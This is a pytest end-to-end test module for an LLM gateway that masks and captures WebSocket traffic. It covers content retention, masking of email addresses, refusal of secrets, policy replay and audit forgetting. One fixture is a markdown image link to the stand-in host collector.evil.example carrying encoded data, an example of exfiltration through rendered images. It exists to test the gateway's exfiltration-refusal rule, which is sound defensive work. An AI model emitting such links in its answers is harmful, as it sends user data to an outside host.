"""What the policy keeps of a WebSocket: the texts of both directions, and flows that replay as they happened."""

import json
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mitmproxy import http
from mitmproxy.io import FlowWriter, tnetstring
from typer.testing import CliRunner

from e2e.traffic import assert_clean, eventually, of_kind, recorded, running, settled
from gateways import OPEN_POLICY, GatewayProcess, lab_in_thread
from sallyport.audit.events import Event, EventKind
from sallyport.cli.main import app
from sallyport.lab.server import Lab
from sallyport.state.captures import CaptureFile
from sallyport.state.masterkey import MasterKeys
from socketclient import CREATE, RESPONSES, SocketClient, item, text_of, told

MAIL = "odile.brandt@example.org"
SECRET = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
LINK = "![chart](https://collector.evil.example/i?q=" + "c2VjcmV0LXNlY3JldA)"
PLAIN = f"What is a sally port? {LINK}"
POLICY = OPEN_POLICY + "masking: {entities: {URL: allow}}\n"
KEPT = POLICY + "content: {keep: %s, reveal: {second_person: false}}\ncapture: {share: 1, content: %s}\n"


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with lab_in_thread() as up:
        yield up


def converse(gateway: GatewayProcess) -> None:
    """Say what is masked, what is refused, and what is plain, in both APIs."""
    client = SocketClient.open(gateway.port, gateway.confdir)
    client.hear()
    client.say(item(f"Write to {MAIL} at once."))
    client.say(CREATE)
    assert MAIL in text_of(client.until("response.done"))
    client.say(item(f"My key is {SECRET}"))
    client.until("error")
    client.say(item(PLAIN))
    client.say(CREATE)
    client.until("response.done")
    client.close()
    client.hear()
    client = SocketClient.open(gateway.port, gateway.confdir, RESPONSES)
    client.say({"type": "response.create", "model": "gpt-lab", "input": f"Call {MAIL} again."})
    client.until("response.completed")
    client.close()
    client.hear()


def run(folder: Path, lab: Lab, form: str) -> Path:
    with running(folder, lab, policy=KEPT % (form, form)) as gateway:
        converse(gateway)
        settled(gateway.confdir)
    assert_clean(gateway, MAIL, SECRET)
    return folder / "conf"


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory, lab: Lab) -> Path:
    return run(tmp_path_factory.mktemp("original"), lab, "original")


@pytest.fixture(scope="module")
def masked(tmp_path_factory: pytest.TempPathFactory, lab: Lab) -> Path:
    return run(tmp_path_factory.mktemp("masked"), lab, "masked")


def ends(conf: Path, type: str) -> list[Event]:
    """Return the end events of the exchanges that a type of event began, oldest first."""
    began = [e for e in recorded(conf) if e.detail.startswith(f"{type}:")]
    ids = list(dict.fromkeys(e.exchange for e in began))
    found = {e.exchange: e for e in recorded(conf) if e.is_end}
    return [found[id] for id in ids]


def shown(conf: Path, exchange: str) -> dict[str, str]:
    words = ["audit", "reveal", exchange, "--reason", "a test", "--json", "--confdir", str(conf)]
    done = CliRunner().invoke(app, words)
    assert done.exit_code == 0, done.output
    return {p["part"]: "\n".join(text["text"] for text in p["texts"]) for p in json.loads(done.stdout)}


def test_both_directions_are_kept_as_they_were(original: Path) -> None:
    said, secret, plain = ends(original, "conversation.item.create")
    assert shown(original, said.exchange) == {"request": f"Write to {MAIL} at once."}
    assert SECRET in shown(original, secret.exchange)["request"]
    assert shown(original, plain.exchange) == {"request": PLAIN}
    first, second = ends(original, "response.create")[:2]
    assert shown(original, first.exchange)["answer"].count(MAIL) == 1, "once, however often it is repeated"
    plain_answer = shown(original, second.exchange)["answer"]
    assert plain_answer.count("sally port") == 1
    assert "collector.evil" not in plain_answer, "as the client was sent it"
    over_responses = shown(original, ends(original, "response.create")[2].exchange)
    assert over_responses["request"] == f"Call {MAIL} again."
    assert over_responses["answer"].count(MAIL) == 1


def test_masked_content_holds_no_value_of_either_direction(masked: Path) -> None:
    exchanges = {e.exchange for e in recorded(masked) if e.is_end}
    parts = [part for id in sorted(exchanges) for part in revealed(masked, id).values()]
    everything = "\n".join(parts)
    assert MAIL not in everything
    assert SECRET not in everything
    assert everything.count("[EMAIL_ADDRESS]") >= 4, "asked and answered, in two APIs"


def revealed(conf: Path, exchange: str) -> dict[str, str]:
    try:
        return shown(conf, exchange)
    except AssertionError:
        return {}


def test_classes_and_the_index_are_those_of_any_exchange(original: Path) -> None:
    with sqlite3.connect(original / "content.db") as connection:
        rows = connection.execute("SELECT exchange, kind FROM content_records").fetchall()
    classes = dict(rows)
    said, secret, plain = ends(original, "conversation.item.create")
    assert (classes[said.exchange], classes[secret.exchange]) == ("masked", "refused")
    assert classes[plain.exchange] == "ordinary"
    found = CliRunner().invoke(
        app, ["audit", "search", "--value-from-stdin", "--confdir", str(original)], input=MAIL
    )
    assert said.exchange in found.stdout.split()
    assert ends(original, "response.create")[0].exchange in found.stdout.split(), "in its answer"


def flows(conf: Path) -> list[http.HTTPFlow]:
    found = []
    for path in sorted((conf / "captures").glob("*.flows")):
        for _, record in CaptureFile(path, MasterKeys(conf, {})).records():
            assert record is not None
            found.append(http.HTTPFlow.from_state(tnetstring.loads(record)))
    return found


def test_a_capture_is_one_flow_for_each_exchange_with_its_messages(original: Path, masked: Path) -> None:
    whole, without = flows(original), flows(masked)
    assert len(whole) == len(without) == 6
    for flow in whole + without:
        assert flow.websocket is not None
        assert "authorization" not in repr(flow.get_state()).lower()
        assert [m.from_client for m in flow.websocket.messages[:1]] == [True]
    assert MAIL in repr([f.get_state() for f in whole])
    assert any(len(f.websocket.messages) > 3 for f in whole if f.websocket)
    for flow in without:
        state = repr(flow.get_state())
        assert MAIL not in state
        assert SECRET not in state
        assert flow.websocket is not None
        assert len(flow.websocket.messages) == 1, "of the answer its usage and findings alone"


def replayed(conf: Path, tmp_path: Path, policy: str, *words: str) -> dict[str, Any]:
    file = tmp_path / "candidate.yaml"
    file.write_text(policy)
    done = CliRunner().invoke(
        app,
        ["replay", str(conf / "captures"), "--policy", str(file), "--json", "--jobs", "1", "--confdir", str(conf),
         *words],
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    said: dict[str, Any] = json.loads(done.stdout)
    return said


@pytest.mark.parametrize("form", ["original", "masked"])
def test_a_replay_under_the_same_policy_changes_nothing(
    form: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    conf = request.getfixturevalue(form)
    said = replayed(conf, tmp_path, POLICY)
    assert (said["flows"], said["left_out"], said["changes"]["same"]) == (6, {}, 6), said
    assert said["base"] == said["candidate"] | {"unpriced": said["base"]["unpriced"]}
    assert said["base"]["unpriced"] == said["candidate"]["unpriced"]
    assert said["candidate"]["masked"] == {"EMAIL_ADDRESS": 2}


@pytest.mark.parametrize("form", ["original", "masked"])
def test_a_replay_finds_what_another_policy_changes(
    form: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    conf = request.getfixturevalue(form)
    stricter = (
        OPEN_POLICY + "masking: {entities: {EMAIL_ADDRESS: deny, URL: allow}}\nsecrets: {action: mask}\n"
    )
    said = replayed(conf, tmp_path, stricter)
    assert said["changes"]["newly_refused"] == 2
    assert said["changes"]["newly_allowed"] == 1
    closed = replayed(conf, tmp_path, POLICY + "websocket: {refuse: ['openai *realtime*']}\n")
    assert closed["changes"]["newly_refused"] == 4
    limited = POLICY + "limits: {rules: [{id: few, limit: 1, per: day}]}\n"
    assert replayed(conf, tmp_path, limited)["changes"]["newly_refused"] == 2, "three answers were asked for"


@pytest.mark.parametrize("form", ["original", "masked"])
def test_an_answer_is_looked_at_again_by_the_candidate(
    form: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    conf = request.getfixturevalue(form)
    said = replayed(conf, tmp_path, POLICY + "output: {rules: {output.exfiltration.*: refuse}}\n")
    assert (said["changes"]["answer_newly_ended"], said["changes"]["same"]) == (1, 5), said
    assert said["base"]["answers_edited"] or form == "masked"


def test_samples_show_the_event_and_its_answer(original: Path, tmp_path: Path) -> None:
    words = ("--content",)
    said = replayed(original, tmp_path, POLICY + "output: {rules: {output.exfiltration.*: refuse}}\n", *words)
    (sample,) = said["samples"]
    assert '"response.create"' in sample["content"]["request"]
    assert "response.output_text.delta" in sample["content"]["answer"], "as the provider wrote it"


def test_sockets_that_no_gateway_captured_are_left_out_and_counted(original: Path, tmp_path: Path) -> None:
    plain = tmp_path / "plain.flow"
    with plain.open("wb") as file:
        writer = FlowWriter(file)
        for flow in flows(original):
            flow.metadata.clear()
            writer.add(flow)
    conf = tmp_path / "conf"
    (conf / "captures").mkdir(parents=True)
    plain.rename(conf / "captures" / "plain.flows")
    said = replayed(conf, tmp_path, POLICY)
    assert (said["flows"], said["left_out"]) == (0, {"websocket": 6})


def test_what_must_be_kept_is_durable_before_the_event_leaves(tmp_path: Path, lab: Lab) -> None:
    policy = OPEN_POLICY + "content: {keep: original, required: true}\n"
    with running(tmp_path, lab, policy=policy) as gateway:
        client = SocketClient.open(gateway.port, gateway.confdir)
        client.hear()
        client.say(item("Mind the heron first."))
        client.say(CREATE)
        client.until("response.done")
        with sqlite3.connect(gateway.confdir / "content.db") as connection:
            connection.execute("ALTER TABLE content_records RENAME TO content_away")
        before = len(told(lab))
        client.say(item("Mind the heron now."))
        (refused,) = client.until("error")
        assert refused["error"]["code"] == "content.unavailable"
        assert len(told(lab)) == before, "nothing of it left"
        with sqlite3.connect(gateway.confdir / "content.db") as connection:
            connection.execute("ALTER TABLE content_away RENAME TO content_records")
        client.say(item("Mind the heron again."))
        eventually(lambda: any("again" in text for text in told(lab)), 10, "it leaves once the store is back")
        client.reset()
        settled(gateway.confdir)
    events = of_kind(recorded(gateway.confdir), EventKind.REFUSED)
    kinds = [e.kind for e in ends(gateway.confdir, "conversation.item.create")]
    assert kinds == [EventKind.COMPLETED, EventKind.REFUSED, EventKind.COMPLETED]
    assert [e.reason for e in events] == ["content.unavailable"]


def test_of_a_session_that_breaks_off_is_kept_what_came(tmp_path: Path, lab: Lab) -> None:
    with running(tmp_path, lab, policy=KEPT % ("original", "original")) as gateway:
        client = SocketClient.open(gateway.port, gateway.confdir)
        client.hear()
        client.say(item("Count the herons, slowly."))
        client.say(CREATE)
        client.until("response.output_text.delta")
        client.reset()
        settled(gateway.confdir, 20)
    (answered,) = ends(gateway.confdir, "response.create")
    kept = shown(gateway.confdir, answered.exchange)
    assert kept["answer"]
    assert len(flows(gateway.confdir)) == 2


def test_an_answer_that_the_provider_begins_by_itself_is_kept_and_replayed(tmp_path: Path, lab: Lab) -> None:
    policy = KEPT % ("original", "original") + "websocket: {audio: allow}\n"
    with running(tmp_path, lab, policy=policy) as gateway:
        client = SocketClient.open(gateway.port, gateway.confdir)
        client.hear()
        client.say(item("Heron, say nothing yet."))
        client.say({"type": "input_audio_buffer.append", "audio": "AAAA"})
        client.say({"type": "input_audio_buffer.commit"})
        client.until("response.done")
        client.close()
        client.hear()
        settled(gateway.confdir)
    (unasked,) = ends(gateway.confdir, "unasked")
    kept = shown(gateway.confdir, unasked.exchange)
    assert "Heron" in kept["answer"]
    assert kept["request"] == ""
    assert len(flows(gateway.confdir)) == 2, "sound is no exchange, and is captured nowhere"
    assert "AAAA" not in repr([flow.get_state() for flow in flows(gateway.confdir)])
    said = replayed(gateway.confdir, tmp_path, POLICY + "websocket: {audio: allow}\n")
    assert said["changes"]["same"] == 2, said


def test_who_is_forgotten_is_forgotten_on_sockets_too(original: Path, tmp_path: Path) -> None:
    conf = tmp_path / "conf"
    shutil.copytree(original, conf)
    said, *_ = ends(conf, "conversation.item.create")
    assert MAIL in shown(conf, said.exchange)["request"]
    words = ["audit", "forget", "client:127.0.0.1", "--tenant", "default", "--confdir", str(conf)]
    done = CliRunner().invoke(app, words)
    assert done.exit_code == 0, done.output
    assert revealed(conf, said.exchange) == {}
    assert flows(conf) == []
    assert replayed(conf, tmp_path, POLICY)["left_out"] == {"forgotten": 6}
    found = CliRunner().invoke(
        app, ["audit", "search", "--value-from-stdin", "--confdir", str(conf)], input=MAIL
    )
    assert (found.exit_code, found.stdout) == (1, "")


def test_nothing_of_a_socket_is_kept_where_the_policy_keeps_nothing(tmp_path: Path, lab: Lab) -> None:
    with running(tmp_path, lab, policy=OPEN_POLICY) as gateway:
        converse(gateway)
        settled(gateway.confdir)
    assert not (gateway.confdir / "content.db").exists()
    assert not (gateway.confdir / "captures").exists()
